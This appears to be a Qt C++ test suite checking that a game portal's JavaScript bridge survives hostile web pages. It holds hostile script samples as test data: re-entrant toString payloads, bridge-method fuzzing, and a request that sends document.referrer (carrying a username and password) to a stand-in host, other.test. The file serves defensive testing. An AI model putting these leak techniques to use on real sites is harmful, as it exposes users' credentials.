// SPDX-License-Identifier: MIT
#include "portal.h"

#include "mmessagebox.h"

#include <QNetworkAccessManager>
#include <QNetworkReply>

/// Pages are strangers: whatever one does to the bridge, the player keeps a working companion.
class StrangerPageTest : public PortalTest {
    Q_OBJECT

private slots:
    void oddValues()
    {
        for (const auto &[literal, title] : {std::pair("42", "42"_s),
                                             {"true", "true"_s},
                                             {"{toString: function() { return 'odd'; }}", "odd"_s},
                                             {"['a', 'b']", "a,b"_s},
                                             {"''", {}},
                                             {"{toString: function() { throw 'no'; }}", "before"_s},
                                             {"Array(1000001).join('x')", QString(1000000, QLatin1Char('x'))},
                                             {"'<b>bold</b> &amp;'", "<b>bold</b> &amp;"_s}}) {
            page->lblWebTitle->setText("before"_s);
            // Each is the next one's value.
            loadPage("/vantu/games"_s,
                     "sUserUid=iInboxMessages=iGamesMessages=iFriendsMessages=iGameId=sSubject=bIsFriend=bShowAdd="
                     "bShowEvaluate=iUserId=sUserName=sTitle=strUserName=strPassword=blnRememberMe="_s
                         + QLatin1String(literal));
            QVERIFY2(page->lblWebTitle->text() == title, literal);
            // Kept whole, but laid out only as far as it could ever be seen.
            constexpr qreal widest = 50000;
            QVERIFY(page->lblWebTitle->effectiveSizeHint(Qt::PreferredSize).width() < widest);
            QVERIFY(MButton(page->lblWebTitle->text()).effectiveSizeHint(Qt::PreferredSize).width() < widest);
            QVERIFY(!isLoading());
            window->grab();
        }
    }

    void slotsInsideSlots()
    {
        const QString hostile = "{toString: function() { VANTU.on_pageLoadStarted();"
                                " VANTU.on_pageLoadFinished(true); VANTU.on_pageLoadFinished(false);"
                                " VANTU.showTitle(this); return 'deep'; }}"_s;
        loadPage("/vantu/friends"_s, "sTitle = 'Friends', sUserUid = "_s + hostile);
        QCOMPARE(page->lblWebTitle->text(), "Friends"_s);
        QVERIFY(page->btnAdd->isVisible());
        QVERIFY(!isLoading());
    }

    void everySlotAtAnyTime()
    {
        load("/vantu/info/"_s, R"(<body><script>
            var arguments_ = [undefined, null, 0, -1, 1e300, NaN, 'text', {}, [], function() {}, VANTU, window];
            for (var name in VANTU) {
                if (typeof VANTU[name] != 'function' || /quit|SelectButton|deleteLater|destroyed/i.test(name))
                    continue;
                for (var i = 0; i < arguments_.length; ++i) {
                    try { VANTU[name](arguments_[i]); } catch (e) {}
                    try { VANTU[name](); } catch (e) {}
                }
            }
            for (var id = 3; id < 10; ++id)
                VANTU.on_SelectButtonClicked(id);
        </script>)");
        QTRY_VERIFY(!isLoading());
        // Whatever state that left: cancel and a tab lead back to a usable page.
        for (int i = 0; i < 10 && page->state != Normal; ++i)
            page->on_SelectButtonClicked(7);
        QCOMPARE(page->state, Normal);
        loadPage("/vantu/"_s);
        QVERIFY(page->btnQuit->isVisible());
        QVERIFY(page->isVisible());
    }

    void scriptsReachTheSlotsOnly()
    {
        load("/vantu/"_s, R"(<script>
            VANTU.enabled = false;
            var found = [];
            for (var name in VANTU)
                found.push(name.replace(/\(.*/, ''));
            ['deleteLater', 'destroyed', 'objectName', 'visible', 'layoutDirection', 'parent', 'close', 'appear', '']
                .forEach(function(name) { if (VANTU[name] !== undefined) found.push('reached ' + name); });
        </script>)");
        const QMetaObject &meta = VantuPage::staticMetaObject;
        QStringList expected{"enabled"_s}; // Of the script's own making.
        for (int i = meta.methodOffset(); i < meta.methodCount(); ++i)
            expected << QString::fromLatin1(meta.method(i).name());
        QStringList found = evaluate("found.join(' ')"_s).toString().split(QLatin1Char(' '));
        expected.sort();
        found.sort();
        QCOMPARE(found, expected);
        QVERIFY(page->isEnabled() && page->btnHome->isEnabled());
    }

    void otherHostsLearnNothing_data()
    {
        const Table<QString> row("body");
        row("picture and link",
            "<img src='http://other.test/picture'>"
            "<script>onload = function() { location = 'http://other.test/'; }</script>"_s);
        row("redirection", "<script>onload = function() { location = '/away'; }</script>"_s);
        row("post",
            "<form method='post' action='http://other.test/'></form>"
            "<script>onload = function() { document.forms[0].submit(); }</script>"_s);
        row("frame", "<iframe src='http://other.test/'></iframe>"_s);
        row("page without a host",
            "<script>onload = function() { location ="
            " 'data:text/html,' + escape(\"<script>new Image().src ="
            " 'http://other.test/saw?' + document.referrer + ',' + typeof VANTU;</\" + 'script>'); }</script>"_s);
    }

    void otherHostsLearnNothing()
    {
        QFETCH(QString, body);
        if (QT_VERSION >= QT_VERSION_CHECK(6, 0, 0) && body.contains("data:"_s))
            QSKIP("This engine lets no page go on to one without a host");
        service->answer("/away"_s, {{}, 302, "http://other.test/"});
        service->answer("http://other.test/"_s, {R"(<body><script>
            var sTitle = 'stranger', sUserUid = 'stranger';
            var frame = document.createElement('iframe');
            document.body.appendChild(frame);
            var theirs = frame.contentWindow;
            var getter = theirs.Object.getOwnPropertyDescriptor(theirs.Document.prototype, 'referrer').get;
            new Image().src = '/saw?' + document.referrer + getter.call(document) + ',' + typeof VANTU;
        </script>)"});
        load("/vantu/?username=alice&pass=secret"_s, TestService::page("sTitle = 'service'"_s, body));
        QTRY_VERIFY2(service->urls().contains("http://other.test/saw?,undefined"_s),
                     qPrintable(service->urls().join(QLatin1Char('\n'))));
        QTRY_VERIFY(!isLoading());
        for (const TestService::Request &request : service->requests())
            QVERIFY2(request.url.startsWith(url(QString())) || !request.referer.contains("vantu.test"),
                     qPrintable(request.url));
        QVERIFY(page->lblWebTitle->text() != "stranger"_s);
        QCOMPARE(page->userID, QString());
    }

    void pageThatComputesForEverGoes()
    {
        if (QT_VERSION < QT_VERSION_CHECK(6, 0, 0))
            QSKIP("Such a page holds this engine");
        for (const QString &address : {url("/vantu/friends"_s), "http://other.test/"_s}) {
            service->answer(address,
                            {"<script>onload = function() { setTimeout(function() { for (;;); }); }</script>"});
            visit(address);
            QTRY_VERIFY(!evaluate("1"_s).isValid());
            service->answer("/vantu/games"_s, {TestService::page("sTitle = '%1'"_s.arg(address))});
            QElapsedTimer time;
            time.start();
            QVERIFY(visit(url("/vantu/games"_s)));
            QCOMPARE(page->lblWebTitle->text(), address);
            QVERIFY(time.elapsed() < 9000);
        }
    }

    void loadsFromInsideTheBridge()
    {
        const QString hostile
            = "{toString: function() { VANTU.on_ToggleButtonClicked(3); VANTU.attachObjectToJS(); return 'p1'; }}"_s;
        loadPage("/vantu/friends"_s, "sUserName = "_s + hostile);
        QTRY_COMPARE(shownUrl(), url("/vantu/games"_s));
        QTRY_VERIFY(!isLoading());
    }

    void onlyTheLastWishIsLoaded()
    {
        load("/vantu/info/"_s,
             "<script>for (var i = 0; i < 2000; ++i) { VANTU.on_ToggleButtonClicked(3);"
             " VANTU.on_SelectButtonClicked(0); VANTU.on_ToggleButtonClicked(2); }</script>");
        QTRY_COMPARE(shownUrl(), url("/vantu/friends"_s));
        QTRY_VERIFY(!isLoading());
        QCOMPARE(service->urls(), (QStringList{url("/vantu/info/"_s), url("/vantu/friends"_s)}));
    }

    void loadsFromInsideAFocusHandler()
    {
        QVERIFY(QTest::qWaitForWindowActive(window.get()));
        page->webView->setFocus();
        load("/vantu/info/"_s,
             "<input autofocus onfocus='VANTU.on_ToggleButtonClicked(3)'>"
             "<script>window.onblur = function() { VANTU.on_ToggleButtonClicked(3); }</script>");
        QTRY_COMPARE(shownUrl(), url("/vantu/games"_s));
        page->openSendMessagePage();
        page->on_SelectButtonClicked(7);
        QTRY_VERIFY(!isLoading());
    }

    void scriptsOfAnEndingPage()
    {
        load("/vantu/info/"_s, R"(<script>window.onunload = window.onpagehide = function() {
            VANTU.on_pageLoadStarted(); VANTU.showTitle('end'); VANTU.on_pageLoadFinished(true);
        }</script>)");
        page.reset();
    }

    void scriptsCauseOneWarningAtATimeAndSendNothing()
    {
        load("/vantu/info/"_s, "<script>for (var i = 0; i < 50; ++i) VANTU.on_SelectButtonClicked(8)</script>");
        QCOMPARE(only<MMessageBox>(window->scene()->items()).size(), 1);
        page->openSendMessagePage();
        page->addrWidget->addNewUIDAddress("Ann"_s, "p1"_s);
        page->txtMessage->setText("not ready"_s);
        evaluate("VANTU.on_SelectButtonClicked(8)"_s);
        QCOMPARE(page->state, SendMessageState);
        QCOMPARE(page->txtMessage->text(), "not ready"_s);
        QVERIFY(page->nwAccessMgr->findChildren<QNetworkReply *>().isEmpty());
        page->on_SelectButtonClicked(8);
        QCOMPARE(page->state, Normal);
        QCOMPARE(page->nwAccessMgr->findChildren<QNetworkReply *>().size(), 1);
    }
};

PORTAL_TEST_MAIN(StrangerPageTest)
#include "tst_strangerpage.moc"
